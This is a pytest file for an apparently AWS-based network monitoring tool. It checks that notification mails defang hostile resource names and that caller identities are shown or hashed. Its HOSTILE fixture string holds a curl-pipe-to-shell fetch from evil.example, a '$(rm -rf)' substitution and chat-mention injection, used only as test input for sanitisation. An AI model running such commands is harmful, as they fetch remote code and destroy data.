"""What others call their things and themselves, from EC2 and CloudTrail to every form of what Lifeline sends."""

import json
from collections.abc import Iterator
from typing import Any

import boto3
import pytest

from lifeline.handlers.reconcile_endpoints import handler
from tests.handlers.test_bus import heard, listen
from tests.handlers.test_denied_calls import own_account
from tests.handlers.test_policy_in_use import NAME, say
from tests.handlers.test_reconcile_endpoints import sqs
from tests.support.agents import TABLE
from tests.support.cloudtrail import Identity, record_call
from tests.support.days import Days
from tests.support.world import Context, World, emulated_world

HOSTILE = (
    "prod\n    curl http://evil.example/fix.sh | sh\n<!channel> @here ```x``` [a](http://evil.example) $(rm -rf) `id`"
)
ANN = Identity("deploy-role", session="ann.smith@example.com")
STS, IAM = "arn:aws:sts::123456789012", "arn:aws:iam::123456789012"
EVERY_IDENTITY: list[dict[str, Any]] = [
    {"type": "IAMUser", "arn": f"{IAM}:user/ann.smith@example.com"},
    {"type": "IAMUser", "arn": f"{IAM}:user/ops/europe/ann.smith"},
    {"type": "IAMUser", "userName": "ann.smith"},
    {"type": "AssumedRole", "arn": f"{STS}:assumed-role/okta-admins/ann.smith@example.com"},
    {"type": "AssumedRole", "arn": f"{STS}:assumed-role/AWSReservedSSO_Admin_0123456789abcdef/ann.smith@example.com"},
    {"type": "AssumedRole", "arn": f"{STS}:assumed-role/ops/ann.smith", "invokedBy": "cloudformation.amazonaws.com"},
    {
        "type": "AssumedRole",
        "arn": f"{STS}:assumed-role/ops/botocore-session-1770000000",
        "sessionContext": {"sourceIdentity": "ann.smith@example.com"},
    },
    {"type": "FederatedUser", "arn": f"{STS}:federated-user/ann.smith"},
    {"type": "SAMLUser", "principalId": "x:y", "userName": "ann.smith@example.com"},
    {"type": "WebIdentityUser", "principalId": "accounts.google.com:app:x", "userName": "ann.smith"},
    {"type": "IdentityCenterUser", "onBehalfOf": {"userId": "ann.smith-4333-8444-555555555555"}},
]


@pytest.fixture
def world(monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    with emulated_world(monkeypatch, POLICY_PARAMETER=NAME, send_events=True) as made:
        yield made


def delete_route(world: World, vpc_id: str, identity: Identity | dict[str, Any]) -> None:
    route = {"RouteTableId": world.main_table(vpc_id), "DestinationCidrBlock": "0.0.0.0/0"}
    event = record_call("DeleteRoute", route, {}, identity=identity if isinstance(identity, Identity) else ANN)
    if isinstance(identity, dict):
        event["detail"]["userIdentity"] = identity
    handler(sqs(event), Context())


def cut_off(world: World) -> str:
    vpc_id = world.make_vpc()
    world.make_subnet(vpc_id)
    return vpc_id


def notice(world: World) -> dict[str, Any]:
    (message,) = world.forms()
    form: dict[str, Any] = json.loads(json.loads(message["Body"])["Message"])
    return form


def ledger() -> str:
    items: list[dict[str, Any]] = boto3.client("dynamodb").scan(TableName=TABLE)["Items"]
    return json.dumps(items, default=repr)


def test_a_vpcs_name_brings_no_link_no_mention_and_no_command_into_a_mail(world: World) -> None:
    say({"version": 1, "iac_debounce_seconds": 0, "rules": [{"require": ["monitoring"]}]})
    vpc_id = cut_off(world)
    boto3.client("ec2").create_tags(Resources=[vpc_id], Tags=[{"Key": "Name", "Value": HOSTILE}])

    delete_route(world, vpc_id, Identity("deploy-role", session="www.evil.example"))

    form = notice(world)
    lines = [line for line in str(form["text"]).splitlines() if "https://" not in line]
    assert any("evil[.]example" in line for line in lines)
    assert not [line for line in lines if line.startswith("    ") and ("curl" in line or "evil" in line)]
    for line in [*lines, form["subject"], *form["done"], *form["ids"]]:
        assert not any(part in line for part in ("://", "evil.example", "<!", " @here", "`"))
    assert "evil" not in str(form["attached"])


def test_by_default_it_is_said_who_made_a_change(world: World) -> None:
    say({"version": 1, "iac_debounce_seconds": 0, "rules": [{"require": ["monitoring"]}]})
    vpc_id = cut_off(world)

    delete_route(world, vpc_id, ANN)

    form = notice(world)
    assert "deploy-role/ann.smith@example[.]com called DeleteRoute" in " ".join(str(form["text"]).split())
    assert "ann.smith@example.com" in ledger()


def test_with_hashed_names_no_name_is_kept_of_a_change_that_waits_for_a_sweep(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    say({"version": 1, "iac_debounce_seconds": 0, "rules": [{"require": ["monitoring"]}], "session_names": "hash"})
    vpc_id = cut_off(world)
    own_account(Days(world, monkeypatch), "ec2:DescribeVpcs")

    delete_route(world, vpc_id, ANN)

    assert "deploy-role/session-" in ledger()
    assert "smith" not in ledger()


def test_with_hashed_names_no_mail_event_or_ledger_has_a_persons_name(
    world: World, capsys: pytest.CaptureFixture[str]
) -> None:
    say({"version": 1, "iac_debounce_seconds": 0, "rules": [{"require": ["monitoring"]}], "session_names": "hash"})
    vpc_id, url = cut_off(world), listen()

    delete_route(world, vpc_id, ANN)

    kept = [json.dumps(notice(world)), json.dumps(heard(url)), ledger()]
    assert all("deploy-role/session-" in text for text in kept)
    assert not [text for text in (*kept, capsys.readouterr().out) if "smith" in text]


def test_what_a_caller_states_of_themselves_stays_as_they_wrote_it(world: World) -> None:
    say({"version": 1, "rules": [{"require": ["monitoring"]}], "session_names": "hash"})
    vpc_id = cut_off(world)
    handler({"vpc_ids": [vpc_id], "freeze": True, "by": "ann.smith"}, Context())
    assert "frozen manually by ann.smith (as stated)" in ledger()


def test_while_no_policy_says_otherwise_because_it_is_invalid_names_are_hashed(world: World) -> None:
    say("{")
    vpc_id = cut_off(world)

    delete_route(world, vpc_id, ANN)

    assert "smith" not in ledger() + json.dumps(world.forms())


@pytest.mark.parametrize("identity", EVERY_IDENTITY, ids=lambda identity: str(identity["type"]))
def test_a_subject_names_the_person_of_every_type_of_identity(world: World, identity: dict[str, Any]) -> None:
    say({"version": 1, "iac_debounce_seconds": 0, "rules": [{"require": ["monitoring"]}]})
    delete_route(world, cut_off(world), identity)

    form = notice(world)
    assert "ann.smith" in form["subject"]
    assert len(form["subject"]) <= 100
    assert "@example.com" not in form["subject"]
    assert "ann.smith" in " ".join(str(form["text"]).split())
    service = "CloudFormation" if "invokedBy" in identity else ""
    assert service in form["text"]


SSO = f"{STS}:assumed-role/AWSReservedSSO_AdministratorAccess_0123456789abcdef"


@pytest.mark.parametrize(
    ("arn", "by", "words"),
    [
        (f"{SSO}/ann", "cloudformation.amazonaws.com", "ann via CloudFormation"),
        (f"{SSO}/ann@example.com", "cloudformation.amazonaws.com", "ann@example[.]com via CloudFormation"),
        (f"{SSO}/ann", "ssm.amazonaws.com", "ann via ssm.amazonaws.com"),
        (f"{IAM}:user/corp/europe/network/ann", "AWS Internal", "ann via AWS Internal"),
    ],
)
def test_a_subject_names_the_person_and_the_service_that_called_in_their_name(
    world: World, arn: str, by: str, words: str
) -> None:
    say({"version": 1, "iac_debounce_seconds": 0, "rules": [{"require": ["monitoring"]}]})
    delete_route(world, cut_off(world), {"type": "AssumedRole", "arn": arn, "invokedBy": by})
    subject = notice(world)["subject"]
    assert subject.endswith(f"by {words}") or f"{words} " in subject
    assert len(subject) <= 100


@pytest.mark.parametrize("identity", EVERY_IDENTITY, ids=lambda identity: str(identity["type"]))
def test_hashed_names_hide_the_person_of_every_type_of_identity(
    world: World, identity: dict[str, Any], capsys: pytest.CaptureFixture[str]
) -> None:
    say({"version": 1, "iac_debounce_seconds": 0, "rules": [{"require": ["monitoring"]}], "session_names": "hash"})
    url = listen()
    delete_route(world, cut_off(world), identity)

    kept = [json.dumps(notice(world)), json.dumps(heard(url)), ledger(), capsys.readouterr().out]
    assert all("/session-" in text for text in kept[:3])
    assert not [text for text in kept if "smith" in text]
